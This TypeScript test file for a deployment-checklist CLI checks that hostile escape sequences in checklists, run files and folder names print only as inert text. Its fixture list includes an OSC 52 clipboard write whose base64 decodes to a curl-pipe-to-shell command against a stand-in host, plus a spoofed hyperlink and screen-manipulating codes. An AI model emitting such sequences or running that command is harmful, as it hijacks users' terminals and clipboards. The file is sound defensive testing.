/**
 * From checklist text to what reaches the terminal: whatever bytes a checklist,
 * a run file or a file name holds — escape sequences (CSI, OSC 52, DCS, APC…),
 * C1 controls as code points and as raw bytes, BEL, backspaces, bidi overrides —
 * no command that prints and no screen of the wizard lets one through as
 * something the terminal would act on. The only escape codes written are our
 * own colours; with NO_COLOR, there are none at all.
 *
 * Spawning the CLI is slow, so the properties call the commands in-process (what
 * they write to the process's streams is caught for the duration of one call)
 * and render the wizard with ink-testing-library; a few cases go through the
 * built CLI too, with a hostile file name, and one reads the output as a
 * terminal would (@xterm/headless).
 */
import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import fc from 'fast-check'
import { render } from 'ink-testing-library'
import { loadChecklist } from '../../src/checklist/load.ts'
import type { Checklist } from '../../src/checklist/model.ts'
import { checkCommand } from '../../src/commands/check.ts'
import { exportCommand } from '../../src/commands/export.ts'
import { planCommand } from '../../src/commands/plan.ts'
import { runsCommand } from '../../src/commands/runs.ts'
import { trustCommand } from '../../src/commands/trust.ts'
import { validateCommand } from '../../src/commands/validate.ts'
import { verifyCommand } from '../../src/commands/verify.ts'
import { UserError } from '../../src/errors.ts'
import { RUN_FORMAT } from '../../src/run/model.ts'
import type { RunSession } from '../../src/run/session.ts'
import { wizardServices } from '../../src/run/start.ts'
import { App } from '../../src/ui/app.tsx'
import { activeIn } from '../helpers/active.ts'
import { runCli } from '../helpers/cli.ts'
import { inputSettled, waitForContent } from '../helpers/wait.ts'

const CASES = Number(process.env.DEPLOY_WIZARD_PROPERTY_CASES ?? 20)

/** What a hostile author writes: escape sequences whole, and their pieces. */
const SEQUENCES = [
  '\u001b',
  '\u001b[1A\u001b[2K',
  '\u001b[2J\u001b[H',
  '\u001b[31m',
  '\u001b[8m',
  '\u001b[?1049h',
  '\u001b[6n',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u0007',
  '\u001b]0;pwned\u001b\\',
  '\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\',
  '\u001bP+q544e\u001b\\',
  '\u001b_apc\u001b\\',
  '\u001b^pm\u001b\\',
  '\u001bXsos\u001b\\',
  '\u001bc',
  '\u009b1A',
  '\u009d52;c;eA==\u009c',
  '\u0090q\u009c',
  '\u0007',
  '\u0008\u0008\u0008',
  '\u007f',
  '\u0000',
  '\u000b',
  '\u000c',
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200f',
  '\u061c',
  '\u2028',
  '\u200b',
  '\ufeff',
]

/** Text and its pieces, as the bytes of the file (a lone byte may be invalid UTF-8: 0x9b, 0xc2). */
const piece = fc.oneof(
  fc.constantFrom(...SEQUENCES).map((text) => Buffer.from(text)),
  fc.stringMatching(/^[A-Za-z0-9 .:-]{1,8}$/).map((text) => Buffer.from(text)),
  // Any byte but a line break, which would change the markdown's structure rather than a title.
  fc
    .integer({ min: 0, max: 255 })
    .filter((byte) => byte !== 0x0a && byte !== 0x0d)
    .map((byte) => Buffer.from([byte])),
)
const hostileBytes = fc
  .array(piece, { minLength: 1, maxLength: 6 })
  .map((parts) => Buffer.concat(parts))
/** For a directive's quoted value and a YAML string: text (no quote or backslash to break them). */
const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...SEQUENCES), fc.stringMatching(/^[A-Za-z0-9 .:-]{1,8}$/)), {
    minLength: 1,
    maxLength: 5,
  })
  .map((parts) => parts.join('').replace(/["\\]/g, ''))

interface Hostile {
  readonly title: string
  readonly variable: string
  readonly command: string
  readonly heading: Buffer
  readonly group: Buffer
  readonly items: readonly [Buffer, Buffer, Buffer]
  readonly prose: Buffer
  readonly signoff: Buffer
  readonly run: {
    /** The id its header says; its file has a run id's name (the store reads no other). */
    readonly id: string
    readonly operator: string
    readonly note: string
    readonly summary: string
    readonly value: string
  }
  readonly isColour: boolean
}

const hostile: fc.Arbitrary<Hostile> = fc.record({
  title: hostileText,
  variable: hostileText,
  command: hostileText,
  heading: hostileBytes,
  group: hostileBytes,
  items: fc.tuple(hostileBytes, hostileBytes, hostileBytes),
  prose: hostileBytes,
  signoff: hostileBytes,
  run: fc.record({
    id: hostileText,
    operator: hostileText,
    note: hostileText,
    summary: hostileText,
    value: hostileText,
  }),
  isColour: fc.boolean(),
})

/** A YAML double-quoted string holding exactly `text`: every character outside ASCII as an escape. */
function yamlString(text: string): string {
  return JSON.stringify(text).replace(
    /[\u007f-\uffff]/g,
    (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`,
  )
}

/** The checklist's bytes: hostile text in every place a checklist has text. */
function checklistBytes(h: Hostile): Buffer {
  const text = (value: string) => Buffer.from(value)
  return Buffer.concat([
    text(
      `---\ntitle: ${yamlString(h.title)}\nenvironments: [dev, prod]\nvars:\n  note: ${yamlString(h.variable)}\n---\n## `,
    ),
    h.heading,
    text('\n\n### '),
    h.group,
    text('\n\n- [ ] '),
    h.items[0],
    text(' <!-- check: file path="./missing-${note}" -->\n- [ ] '),
    h.items[1],
    text(` <!-- check: command run="echo ${h.command}" -->\n\n  `),
    h.prose,
    text('\n\n- [ ] '),
    h.items[2],
    text(
      ' <!-- check: http url="https://app:hunter2@127.0.0.1:1/${note}" bearer=tok-literal-123 -->\n\n## Sign-Off\n\n- [ ] ',
    ),
    h.signoff,
    text(': ________ Date: ______\n'),
  ])
}

let dir: string
let cases = 0
const saved = { ...process.env }

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'dw-inert-'))
})
after(() => {
  process.env = saved
  rmSync(dir, { recursive: true, force: true })
})

/** A folder of its own for one case: the checklist, a home with a run of hostile text, and its sheet. */
async function setUp(h: Hostile) {
  const folder = join(dir, `case-${++cases}`)
  const home = join(folder, 'home')
  mkdirSync(join(home, 'runs'), { recursive: true })
  const file = join(folder, 'deploy.md')
  writeFileSync(file, checklistBytes(h))
  const { checklist } = await loadChecklist(file)
  const runId = writeRun(home, checklist, h)
  process.env.DEPLOY_WIZARD_HOME = home
  if (h.isColour) {
    delete process.env.NO_COLOR
    process.env.FORCE_COLOR = '1'
  } else {
    process.env.NO_COLOR = '1'
    delete process.env.FORCE_COLOR
  }
  return { folder, home, file, runId, sheet: join(folder, 'sheet.md') }
}

/**
 * A run file as another machine, a newer version or a person with an editor could leave it;
 * returns its id.
 */
function writeRun(home: string, checklist: Checklist, h: Hostile): string {
  const at = '2026-11-22T09:00:00.000Z'
  const first = checklist.items[0]?.id ?? 'x'
  const field = checklist.signoff[0]?.id ?? 'f'
  const run = {
    header: {
      format: RUN_FORMAT,
      id: h.run.id,
      checklist: { path: join(home, '..', 'deploy.md'), title: `${h.title}${h.run.summary}` },
      environment: 'dev',
      operator: h.run.operator,
      host: h.run.note,
      startedAt: at,
      toolVersion: '0.1.0',
    },
    journal: [
      {
        type: 'run-started',
        at,
        by: h.run.operator,
        sha256: checklist.sha256,
        items: checklist.items.map((item) => ({
          id: item.id,
          text: item.text,
          phaseId: item.phaseId,
        })),
      },
      {
        type: 'check-finished',
        at,
        itemId: first,
        result: {
          status: 'fail',
          summary: h.run.summary,
          details: [h.run.summary, h.run.note],
          evidence: { [h.run.note]: h.run.summary },
          outputs: {},
          durationMs: 3,
          at,
        },
      },
      {
        type: 'item-answered',
        at,
        by: h.run.operator,
        itemId: first,
        state: 'failed',
        note: h.run.note,
      },
      { type: 'signoff-entered', at, by: h.run.operator, fieldId: field, value: h.run.value },
    ],
  }
  const id = `dev-20261122-${String(cases).padStart(4, '0')}`
  writeFileSync(join(home, 'runs', `${id}.json`), JSON.stringify(run))
  return id
}

interface Caught {
  readonly code: number | null
  readonly output: string
}

/**
 * Runs a command in this process, keeping what it writes to stdout and stderr. A UserError
 * ends it as the CLI ends it (its message is printed by cli.ts, which the spawned cases run).
 */
async function caught(command: () => Promise<number>): Promise<Caught> {
  const chunks: string[] = []
  const keep = (chunk: string | Uint8Array, ...rest: unknown[]) => {
    chunks.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'))
    const done = rest.find((arg) => typeof arg === 'function') as (() => void) | undefined
    done?.()
    return true
  }
  const { stdout, stderr } = process
  const writes = [stdout.write, stderr.write] as const
  stdout.write = keep as typeof stdout.write
  stderr.write = keep as typeof stderr.write
  try {
    return { code: await command(), output: chunks.join('') }
  } catch (error) {
    if (!(error instanceof UserError)) throw error
    return { code: error.exitCode, output: chunks.join('') }
  } finally {
    stdout.write = writes[0]
    stderr.write = writes[1]
  }
}

function assertInert(what: string, output: string, isColour: boolean): void {
  const active = activeIn(output, { colours: isColour })
  assert.deepEqual(active, [], `${what} let through: ${active.join(', ')}\n${output}`)
}

describe('every command that prints', () => {
  test('shows what a checklist, a run file or a server says, and obeys none of it', async () => {
    await fc.assert(
      fc.asyncProperty(hostile, async (h) => {
        const { file, sheet, runId } = await setUp(h)
        const commands: [string, () => Promise<number>][] = [
          ['validate', () => validateCommand([file], {})],
          ['validate --json', () => validateCommand([file], { json: true })],
          ['plan', () => planCommand(file, { env: 'dev' })],
          ['plan --json', () => planCommand(file, { env: 'dev', json: true })],
          ['check', () => checkCommand(file, { env: 'dev', skipCommands: true })],
          [
            'check --json',
            () => checkCommand(file, { env: 'dev', skipCommands: true, json: true }),
          ],
          ['trust --yes', () => trustCommand(file, { yes: true })],
          ['runs --all', () => runsCommand({ all: true })],
          ['runs --all --json', () => runsCommand({ all: true, json: true })],
          ['export', () => exportCommand(runId, {})],
          ['export --format json', () => exportCommand(runId, { format: 'json' })],
          ['export --format junit', () => exportCommand(runId, { format: 'junit' })],
          ['export -o', () => exportCommand(runId, { output: sheet })],
          ['verify', () => verifyCommand(sheet)],
        ]
        for (const [name, command] of commands) {
          const { output } = await caught(command)
          assertInert(name, output, h.isColour)
          if (name.endsWith('--json') || name.endsWith('json')) JSON.parse(output)
        }
      }),
      { numRuns: CASES },
    )
  })

  test('the wizard draws every screen with what the checklist and the run say, inert', async () => {
    process.env.COLUMNS = '100'
    process.env.LINES = '30'
    await fc.assert(
      fc.asyncProperty(hostile, async (h) => {
        const { folder, home, file } = await setUp(h)
        let session: RunSession | null = null
        const screen = render(
          <App
            services={wizardServices({
              env: { DEPLOY_WIZARD_HOME: home },
              cwd: folder,
              staleAfterMs: 3_600_000,
            })}
            options={{
              checklistPath: file,
              environment: 'dev',
              operator: h.run.operator,
              staleAfterMs: 3_600_000,
              sheetPathFor: (id) => join(folder, `${id}.md`),
              today: '2026-11-22',
              now: () => new Date(),
            }}
            onOpen={(opened) => {
              session = opened
            }}
            onDone={() => {}}
          />,
        )
        const frame = () => screen.lastFrame() ?? ''
        const see = async (pattern: RegExp) => {
          await waitForContent(frame, pattern)
          await inputSettled()
        }
        const press = async (key: string) => {
          screen.stdin.write(key)
          await inputSettled(key)
        }
        try {
          // The run of hostile text is unfinished: the wizard offers it first.
          await see(/Start a new run/)
          await press('\u001b[B')
          await see(/› Start a new run|Start a new run/)
          await press('\r')
          await see(/y: trust it/)
          await press('n')
          await see(/d done · f fail/)
          await press('\r')
          await see(/enter: |d done/)
          await press('\r')
          await press('\u001b[C')
          await see(/enter fill|d done/)
          await press('\u001b[C')
          await see(/enter fill/)
          await press('\r')
          await press('\u001b')
          await press('q')
        } finally {
          screen.unmount()
          await (session as RunSession | null)?.close()
        }
        for (const [index, drawn] of screen.frames.entries()) {
          assertInert(`frame ${index}`, drawn, true)
        }
      }),
      { numRuns: Math.ceil(CASES / 4) },
    )
  })

  test('through the built CLI too, from a folder whose name is hostile as well', async () => {
    // One sample, with a clipboard write and a C1 CSI added where the CLI alone quotes them.
    const samples = fc.sample(hostile, { numRuns: 1, seed: 13 }).map((h) => ({
      ...h,
      title: `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u0007${h.title}`,
      variable: `\u009b2J${h.variable}`,
      command: `\u001b[1A${h.command}`,
    }))
    for (const h of samples) {
      const { folder, home, runId } = await setUp({ ...h, isColour: true })
      // A folder name holds any byte but a slash and NUL: it is quoted by errors and listings.
      const named = join(folder, `dir${h.title.replaceAll('/', '').replaceAll('\u0000', '')}`)
      mkdirSync(named)
      const file = join(named, 'deploy.md')
      writeFileSync(file, checklistBytes(h))
      const sheet = join(named, 'sheet.md')
      // In colour: our colour codes are the only escape codes allowed through.
      const env = { DEPLOY_WIZARD_HOME: home, NO_COLOR: undefined, FORCE_COLOR: '1' }
      // The paths only the CLI has (errors printed by cli.ts, commander's usage errors), and a few more.
      const commands = [
        ['validate', file],
        ['plan', file, '--env', 'dev'],
        ['plan', file, '--env', h.variable],
        ['plan', file, `--${h.command}`],
        ['check', file, '--env', 'dev', '--skip-commands'],
        ['trust', file],
        ['runs', '--all'],
        ['export', runId, '-o', sheet],
        ['verify', sheet],
        ['export', `${h.run.id}x`],
      ]
      // Two at a time: the machine the tests run on may have two cores.
      for (let at = 0; at < commands.length; at += 2) {
        const pair = commands.slice(at, at + 2)
        const results = await Promise.all(pair.map((args) => runCli(args, env)))
        for (const [n, result] of results.entries()) {
          const what = `deploy-wizard ${pair[n]?.join(' ')}`
          assertInert(what, result.stdout + result.stderr, true)
        }
      }
    }
  })
})
